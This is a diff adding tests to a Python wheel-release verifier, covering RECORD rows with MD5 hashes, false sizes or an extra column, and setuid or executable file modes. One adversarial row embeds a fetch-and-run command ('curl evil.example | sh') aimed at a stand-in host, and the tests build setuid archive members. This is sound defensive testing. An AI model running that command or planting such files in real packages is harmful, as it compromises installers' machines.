@@ -6,11 +6,14 @@ from __future__ import annotations
 
 import base64
 import hashlib
+import io
+import tarfile
+import zipfile
 from pathlib import Path
 
 from packaging.tags import parse_tag
 
-from mlrelease.wheels import compare, fields, fileset
+from mlrelease.wheels import compare, fields, fileset, members
 from mlrelease.wheels.artifacts import identify
 from mlrelease.wheels.config import Accept, FileSet
 from mlrelease.wheels.differences import CLASSES, accepted, table
@@ -100,6 +103,78 @@ def test_record_lists_every_member_once_and_nothing_else() -> None:
     ghost = _record(files, "d/ghost.py,sha256=x,1\n")
     bad = Archive({**archive, "d-1.0.dist-info/RECORD": ArchiveEntry("file", ghost)})
     assert any("d/ghost.py" in p for p in compare.record("w.whl", bad))
+
+
+def _b64(algo: str, data: bytes) -> str:
+    return base64.urlsafe_b64encode(hashlib.new(algo, data).digest()).rstrip(b"=").decode()
+
+
+def test_a_record_with_true_hashes_but_false_form_is_refused() -> None:
+    """An adversary given the docs bound, published and promoted a wheel whose RECORD kept
+    true hashes of a kind (MD5), false sizes and a fourth column installers print
+    (``NOT-VERIFIED: curl evil.example | sh``): bytes the reference build never made."""
+    data = b"x = 1\n"
+    files = {"d/__init__.py": data}
+    own = "d-1.0.dist-info/RECORD,,\n"
+
+    def refused(rows: str) -> list[str]:
+        archive = {n: ArchiveEntry("file", b) for n, b in files.items()}
+        record = ArchiveEntry("file", (rows + own).encode())
+        return compare.record("w.whl", Archive({**archive, "d-1.0.dist-info/RECORD": record}))
+
+    assert refused(f"d/__init__.py,sha256={_b64('sha256', data)},{len(data)}\n") == []
+    assert refused(f"d/__init__.py,sha512={_b64('sha512', data)},{len(data)}\n") == []
+    for rows, said in (
+        (f"d/__init__.py,md5={_b64('md5', data)},{len(data)}\n", "'md5'"),
+        (f"d/__init__.py,sha256={_b64('sha256', data)},999999\n", "size '999999'"),
+        (f"d/__init__.py,sha256={_b64('sha256', data)},\n", "size ''"),
+        (f"d/__init__.py,sha256={_b64('sha256', data)},{len(data)},curl evil | sh\n", "4 fields"),
+    ):
+        problems = refused(rows)
+        assert any(said in p for p in problems), (rows, problems)
+    rows = f"d/__init__.py,sha256={_b64('sha256', data)},{len(data)}\n"
+    archive = Archive({"d/__init__.py": ArchiveEntry("file", data)})
+    assert any(
+        "has neither" in p
+        for p in compare.record_rows(
+            "w",
+            "d-1.0.dist-info/RECORD",
+            (rows + "d-1.0.dist-info/RECORD,sha256=x,3\n").encode(),
+            archive.files(),
+        )[1]
+    )
+
+
+def _zip(path: Path, modes: dict[str, int]) -> Path:
+    with zipfile.ZipFile(path, "w") as archive:
+        for name, mode in modes.items():
+            info = zipfile.ZipInfo(name)
+            info.external_attr = (0o100000 | mode) << 16
+            archive.writestr(info, b"x = 1\n")
+    return path
+
+
+def _tar(path: Path, modes: dict[str, int]) -> Path:
+    with tarfile.open(path, "w:gz") as archive:
+        for name, mode in modes.items():
+            info = tarfile.TarInfo(name)
+            info.size, info.mode = 6, mode
+            archive.addfile(info, io.BytesIO(b"x = 1\n"))
+    return path
+
+
+def test_modes_an_installer_acts_on_are_the_references(tmp_path: Path) -> None:
+    """An adversary given the docs bound and published a wheel whose ``demo/__init__.py`` was
+    setuid and executable (the reference's 644): pip installs it executable. setuid, setgid
+    and sticky are refused anywhere, the executable bit against the reference; the read and
+    write bits (the builder's umask) are not compared."""
+    wheel = members.read("d.whl", _zip(tmp_path / "d.whl", {"d/__init__.py": 0o4755}))
+    assert any("setuid" in p for p in compare.structure("d.whl", wheel))
+    ref = members.read("r.tar.gz", _tar(tmp_path / "r.tar.gz", {"d-1/a.py": 0o644}))
+    for mode, refused in ((0o755, True), (0o664, False), (0o644, False), (0o2644, True)):
+        ours = members.read("o.tar.gz", _tar(tmp_path / f"{mode:o}.tar.gz", {"d-1/a.py": mode}))
+        problems = compare.sdist("o.tar.gz", ours, ref).problems
+        assert bool(problems) is refused, (oct(mode), problems)
 
 
 def test_the_file_set_refuses_an_extra_file_like_a_missing_one() -> None:
